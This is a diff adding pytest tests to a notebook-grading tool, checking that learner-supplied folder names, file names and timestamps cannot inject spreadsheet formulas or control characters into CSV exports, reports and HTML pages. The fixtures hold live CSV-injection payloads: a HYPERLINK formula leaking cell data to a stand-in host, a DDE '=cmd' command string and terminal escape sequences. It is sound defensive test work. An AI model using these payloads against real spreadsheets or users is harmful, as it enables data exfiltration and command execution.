@@ -199,3 +199,170 @@ def test_a_fake_heartbeat_does_not_keep_a_cell_alive(tmp_path, jupyter_env):
     assert (rows["honest"]["status"], float(rows["honest"]["score"])) == ("graded", FULL)
     report = (tmp_path / "out" / "report.txt").read_text()
     assert "a cell ran longer than 5 s (in cell" in report
+
+
+# ---------------------------------------------------------------- learner text is data
+ON_TIME = "2026-12-01 10:00:00.000000 UTC"
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"on time")'
+DEADLINE = ["--deadline", "2026-12-01 23:59 UTC", "--late-penalty", "10"]
+LONG = "x" * 100
+# folder (or flat file) -> (honest?, timestamp.txt text or None)
+TEXT_CLASS = {
+    "on-time": (True, ON_TIME),
+    "two-days-late": (True, "2026-12-03 10:00:00.000000 UTC"),
+    "stamp-formula": (True, FORMULA),                       # full marks if read as on time
+    "stamp-garbage": (True, "\x1b[2Jyesterday, honest"),
+    "stamp-missing": (True, None),
+    "=cmd|' -C calc'!A0": (True, ON_TIME),                  # a formula as a folder name
+    "ann lee": (True, ON_TIME),                             # ann lee and ann_lee: one slug
+    "ann_lee": (False, ON_TIME),
+    LONG + "-first": (True, ON_TIME),                       # 100 shared characters
+    LONG + "-second": (False, ON_TIME),
+    "ctl\nname\x1b]0;pwned\x07\u202e": (True, ON_TIME),     # control characters, a newline
+    "smithjane_111_901_02_value.ipynb": (True, None),       # Canvas: two smithjanes
+    "smithjane_222_902_02_value.ipynb": (False, None),
+    "Jane Smith_101_assignsubmission_file_02_value.ipynb": (True, None),   # Moodle: two
+    "Jane Smith_102_assignsubmission_file_02_value.ipynb": (False, None),
+    "=1+2_02_value.ipynb": (True, None),                    # a formula in a file name
+}
+STRAY = "notes\n=SUM(A1)\x1b[31m.txt"                      # a stray file: report.txt only
+
+
+@pytest.fixture(scope="module")
+def text_class(tmp_path_factory, jupyter_env):
+    from hostile import correct_notebook, wrong_notebook
+    import nbformat
+    work = tmp_path_factory.mktemp("learner-text")
+    folder = work / "class"
+    for name, (honest, stamp) in TEXT_CLASS.items():
+        notebook = correct_notebook(SOLUTIONS) if honest else wrong_notebook(SOLUTIONS)
+        path = folder / name if name.endswith(".ipynb") else folder / name / f"{NOTEBOOK}.ipynb"
+        path.parent.mkdir(parents=True, exist_ok=True)
+        nbformat.write(notebook, str(path))
+        if stamp is not None:
+            (path.parent / "timestamp.txt").write_text(stamp + "\n")
+    (folder / STRAY).write_text("not a notebook")
+    out = work / "out"
+    status = cli.main(["grade", str(folder), "--out", str(out), "--notebooks", NOTEBOOK,
+                       "--workers", "2", "--timeout-cell", "30", "--no-progress", *DEADLINE])
+    by_name = {r["name"]: r for r in read_csv(out / "grades.csv")}
+    return {"status": status, "out": out, "grades": by_name,
+            "totals": {r["student"]: r for r in read_csv(out / "totals.csv")}}
+
+
+def formula_cells(path: Path) -> list[str]:
+    """Cells a spreadsheet would run as a formula (a plain number is not one)."""
+    import csv
+    from microgradlab_grader.untrusted import FORMULA_START
+    bad = []
+    with open(path, newline="", encoding="utf-8") as handle:
+        for row in csv.reader(handle):
+            for cell in row:
+                if cell.lstrip(" ").startswith(FORMULA_START):
+                    try:
+                        float(cell)
+                    except ValueError:
+                        bad.append(cell)
+    return bad
+
+
+def raw_hidden(text: str) -> bool:
+    from microgradlab_grader.untrusted import visible
+    return any(visible(line) != line for line in text.splitlines())
+
+
+def test_no_csv_cell_starts_a_formula_or_holds_a_control_character(text_class):
+    assert text_class["status"] == 0
+    for name in ("grades.csv", "totals.csv", "canvas.csv", "moodle.csv"):
+        path = text_class["out"] / name
+        assert formula_cells(path) == [], name
+        assert not raw_hidden(path.read_text(encoding="utf-8").replace("\r\n", "\n")), name
+    grades = text_class["grades"]
+    assert "'=cmd|' -C calc'!A0" in grades and grades["'=cmd|' -C calc'!A0"]["score"] == "3"
+    assert grades["'=1+2"]["score"] == "3"                  # the file name's student part
+    assert grades["stamp-formula"]["timestamp"] == "unknown"
+
+
+def test_the_formula_cells_are_live_without_csv_cell(text_class, tmp_path, monkeypatch):
+    """The control: the same gradebook written with csv_cell taken away holds formulas."""
+    from microgradlab_grader import untrusted
+    from microgradlab_grader.classrun import regenerate_outputs
+    from microgradlab_grader.exports import LatePolicy
+    from microgradlab_grader.gradebook import Gradebook, default_url
+    monkeypatch.setattr(untrusted, "csv_cell", lambda v: "" if v is None else str(v))
+    book = Gradebook(default_url(text_class["out"]))
+    regenerate_outputs(book, tmp_path, LatePolicy(), {}, [], quick=True)
+    book.close()
+    assert any(cell.startswith("=cmd") for cell in formula_cells(tmp_path / "grades.csv"))
+    assert any(cell.startswith("=cmd") for cell in formula_cells(tmp_path / "canvas.csv"))
+
+
+def test_an_unreadable_timestamp_is_never_on_time(text_class):
+    grades, totals = text_class["grades"], text_class["totals"]
+    by_name = {row["name"]: row for row in totals.values()}
+    assert (grades["on-time"]["days_late"], by_name["on-time"]["02_value"]) == ("0", "3")
+    assert (grades["two-days-late"]["days_late"], by_name["two-days-late"]["02_value"]) == \
+        ("2", "2.4")                                            # 3 - 2 days * 10% of 3
+    for name, why in (("stamp-formula", "timestamp.txt is not a time"),
+                      ("stamp-garbage", "timestamp.txt is not a time"),
+                      ("stamp-missing", "no timestamp.txt")):
+        assert grades[name]["score"] == "3" and grades[name]["days_late"] == "unknown"
+        assert by_name[name]["02_value"] == "" and by_name[name]["total"] == "", name
+        assert f"lateness unknown ({why})" in by_name[name]["notes"]
+    canvas = (text_class["out"] / "canvas.csv").read_text()
+    moodle = (text_class["out"] / "moodle.csv").read_text()
+    assert "stamp-formula,,,stamp-formula,," in canvas and "stamp-formula,stamp-formula,," in moodle
+    report = (text_class["out"] / "report.txt").read_text()
+    assert "  stamp-formula 02_value: lateness unknown (timestamp.txt is not a time): 3 points" \
+        in report
+
+
+def test_names_that_map_alike_are_different_learners(text_class):
+    grades = text_class["grades"]
+    pairs = [("ann lee", "ann_lee"), (LONG + "-first", LONG + "-second"),
+             ("smithjane", None), ("Jane Smith", None)]
+    for honest, wrong in pairs[:2]:
+        assert grades[honest]["student"] != grades[wrong]["student"]
+        assert (grades[honest]["score"], grades[wrong]["score"]) == ("3", "0")
+    rows = read_csv(text_class["out"] / "grades.csv")
+    for name in ("smithjane", "Jane Smith"):              # namesakes: two rows each
+        scores = sorted(r["score"] for r in rows if r["name"] == name)
+        assert scores == ["0", "3"], name
+    assert len({r["student"] for r in rows}) == len(rows) == len(TEXT_CLASS)
+
+
+def test_the_same_wrong_notebook_gets_the_same_row(text_class):
+    rows = [r for r in read_csv(text_class["out"] / "grades.csv") if r["score"] == "0"]
+    assert len(rows) == 4
+    same = [{k: v for k, v in r.items() if k not in ("student", "name", "timestamp",
+                                                    "days_late")} for r in rows]
+    assert all(row == same[0] for row in same)
+
+
+def test_control_characters_never_reach_the_report_or_a_page(text_class):
+    out = text_class["out"]
+    report = (out / "report.txt").read_text(encoding="utf-8")
+    assert not raw_hidden(report)
+    assert "  notes\\n=SUM(A1)\\x1b[31m.txt" in report
+    assert "ctl\\nname\\x1b]0;pwned\\x07\\u202e" in report
+    ctl = text_class["grades"]["ctl\\nname\\x1b]0;pwned\\x07\\u202e"]["student"]
+    page = (out / "feedback" / ctl / f"{NOTEBOOK}.html").read_text(encoding="utf-8")
+    assert "<title>Feedback on 02_value for ctl\\nname\\x1b]0;pwned\\x07\\u202e</title>" in page
+    assert "\x1b" not in page and "\u202e" not in page
+    formula = text_class["grades"]["'=cmd|' -C calc'!A0"]["student"]
+    page = (out / "feedback" / formula / f"{NOTEBOOK}.html").read_text(encoding="utf-8")
+    assert "for =cmd|&#x27; -C calc&#x27;!A0</title>" in page
+
+
+def test_two_names_with_one_id_stop_the_command_before_grading(tmp_path, monkeypatch, capsys):
+    from microgradlab_grader.submissions import ids
+    for name in ("ann lee", "ann  lee"):
+        path = tmp_path / "class" / name / f"{NOTEBOOK}.ipynb"
+        path.parent.mkdir(parents=True)
+        path.write_text("{}")
+    monkeypatch.setattr(ids, "fingerprint", lambda raw: "00000000")   # force a collision
+    assert cli.main(["grade", str(tmp_path / "class"), "--out", str(tmp_path / "out"),
+                     "--notebooks", NOTEBOOK, "--no-progress"]) == 2
+    err = capsys.readouterr().err.strip()
+    assert len(err.splitlines()) == 1 and "'ann lee'" in err and "'ann  lee'" in err
+    assert not (tmp_path / "out").exists()                    # nothing was graded
